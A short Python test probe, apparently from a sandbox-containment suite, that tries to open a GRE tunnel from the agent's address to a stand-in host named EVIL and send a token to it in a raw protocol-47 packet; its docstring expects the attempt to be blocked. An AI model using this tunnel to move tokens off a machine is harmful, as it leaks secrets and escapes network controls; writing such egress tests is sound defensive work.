"""
how: a tunnel to the internet
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import changed
from land import AGENT, EVIL
from sockets import raw


def attempt(token):
    return changed(
        ["link", "add", "x0", "type", "gre", "remote", EVIL, "local", AGENT],
        lambda: raw(EVIL, 47, b"\0\0\x08\0" + token.encode()),
    )
